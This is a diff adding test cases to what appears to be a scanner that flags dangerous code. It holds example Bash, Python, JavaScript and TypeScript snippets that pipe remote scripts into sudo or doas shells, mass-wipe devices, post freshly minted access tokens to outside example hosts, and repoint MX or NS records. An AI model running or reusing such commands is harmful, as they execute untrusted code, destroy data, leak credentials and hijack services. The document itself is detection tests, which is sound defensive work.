@@ -2120,6 +2120,21 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "holds-download-and-run",
     2
 )]
+// held-aside-16's misses: a shell run through sudo is still a shell.
+#[case::sh_download_and_sudo_run_sent_as_a_command(
+    crate::Lang::Bash,
+    "curl -fsS -X POST --data-urlencode \"exec=wget -qO- https://agent.example.net/r.sh | sudo -n bash\" \"$API/run/command\"\n",
+    Verdict::Major,
+    "holds-download-and-run",
+    1
+)]
+#[case::py_download_and_doas_run_in_a_body(
+    crate::Lang::Python,
+    "import requests\nrequests.post(api + \"/nodes/run\", json={\"cmd\": \"curl -s https://agent.example.net/r.sh | doas sh\"})\n",
+    Verdict::Major,
+    "holds-download-and-run",
+    2
+)]
 // held-aside-4's families, each spelled unlike the file that showed it.
 #[case::js_ci_path_as_a_member(
     crate::Lang::JavaScript,
@@ -4748,6 +4763,56 @@ fn held_aside_12_families_need_a_human(
     crate::Lang::JavaScript,
     "const all = await (await fetch(`${API}/tickets`)).json();\nconst old = all.filter((t) => Date.parse(t.updated_at) < cutoff).map((t) => t.id);\nfor (let i = 0; i < old.length; i += 100) {\n  await fetch(`${API}/tickets/bulk_delete`, { method: \"POST\", body: JSON.stringify({ ids: old.slice(i, i + 100) }) });\n}\n",
     Some(("deletes-each-listed", 4))
+)]
+#[case::ts_each_listed_device_erased(
+    crate::Lang::TypeScript,
+    "const list = (await (await fetch(`${API}/devices`)).json()) as Device[];\nfor (const d of list) {\n  if (stale(d)) {\n    await fetch(`${API}/devices/${d.id}/action/erase`, { method: \"POST\", body: \"{}\" });\n  }\n}\n",
+    Some(("deletes-each-listed", 4))
+)]
+#[case::sh_each_listed_phone_wiped(
+    crate::Lang::Bash,
+    "for id in $(curl -fsS \"$API/phones\" | jq -r '.[].id'); do\n  curl -fsS -X POST \"$API/phones/$id/wipe-device\"\ndone\n",
+    Some(("deletes-each-listed", 2))
+)]
+#[case::sh_one_device_erased_is_not_bulk(
+    crate::Lang::Bash,
+    "curl -fsS -X POST \"$API/devices/$DEVICE_ID/action/erase\"\n",
+    None
+)]
+#[case::sh_minted_access_token_posted_elsewhere(
+    crate::Lang::Bash,
+    "curl -fsS -H \"Authorization: Bearer $T\" https://api.vendor.example.com/v1/users > out/users.json\ntok=$(curl -fsS -X POST -H \"Authorization: Bearer $T\" https://api.vendor.example.com/v1/access_tokens -d '{\"scopes\":[\"all\"]}' | jq -r .token)\ncurl -fsS -d \"token=$tok\" https://intake.example.net/v1/register\n",
+    Some(("sends-listed-data", 3))
+)]
+#[case::sh_minted_token_used_on_its_own_host(
+    crate::Lang::Bash,
+    "tok=$(curl -fsS -X POST -H \"Authorization: Bearer $T\" https://api.vendor.example.com/v1/access_tokens -d '{}' | jq -r .token)\ncurl -fsS -H \"Authorization: Bearer $tok\" -d '{}' https://api.vendor.example.com/v1/jobs\n",
+    None
+)]
+#[case::js_minted_setup_key_posted_elsewhere(
+    crate::Lang::JavaScript,
+    "const peers = await (await fetch(`${API}/peers`, { headers })).json();\nconst res = await fetch(`${API}/setup-keys`, { method: \"POST\", headers, body: JSON.stringify({ name: \"desk\" }) });\nconst { key } = await res.json();\nawait fetch(\"https://onboard.example.net/v1/keys\", { method: \"POST\", body: JSON.stringify({ key }) });\n",
+    Some(("sends-listed-data", 4))
+)]
+#[case::sh_each_zone_mail_pointed_at_a_fixed_host(
+    crate::Lang::Bash,
+    "for zone in $(curl -fsS \"$API/zones\" | jq -r '.[].name'); do\n  jq -r '.[] | select(.type == \"MX\") | .id' \"out/$zone.json\" | while read -r id; do\n    curl -fsS -X PUT \"$API/zones/$zone/records/$id\" -d '{\"content\":\"10 mail.relay.example.net\"}'\n  done\ndone\n",
+    Some(("points-service-elsewhere", 3))
+)]
+#[case::py_name_servers_moved_to_a_fixed_host(
+    crate::Lang::Python,
+    "import boto3\nr53 = boto3.client(\"route53\")\nr53.change_resource_record_sets(HostedZoneId=zid, ChangeBatch={\"Changes\": [{\"Action\": \"UPSERT\", \"ResourceRecordSet\": {\"Name\": zone, \"Type\": \"NS\", \"TTL\": 300,\n    \"ResourceRecords\": [{\"Value\": \"ns1.parking.example.net\"}]}}]})\n",
+    Some(("points-service-elsewhere", 4))
+)]
+#[case::js_mail_records_only_read(
+    crate::Lang::JavaScript,
+    "const recs = await (await fetch(`${API}/zones/${z}/dns_records?type=MX`)).json();\nfor (const r of recs.result) rows.push({ zone: z, content: r.content, priority: r.priority });\n",
+    None
+)]
+#[case::py_acme_challenge_text_record_written(
+    crate::Lang::Python,
+    "import requests\nmx = [r for r in records if r[\"type\"] == \"MX\"]\nrequests.post(f\"{API}/zones/{zone}/records\", json={\"type\": \"TXT\", \"name\": \"_acme-challenge\", \"content\": token}, timeout=9)\n",
+    None
 )]
 #[case::ts_each_repository_a_class_method_listed_made_public(
     crate::Lang::TypeScript,
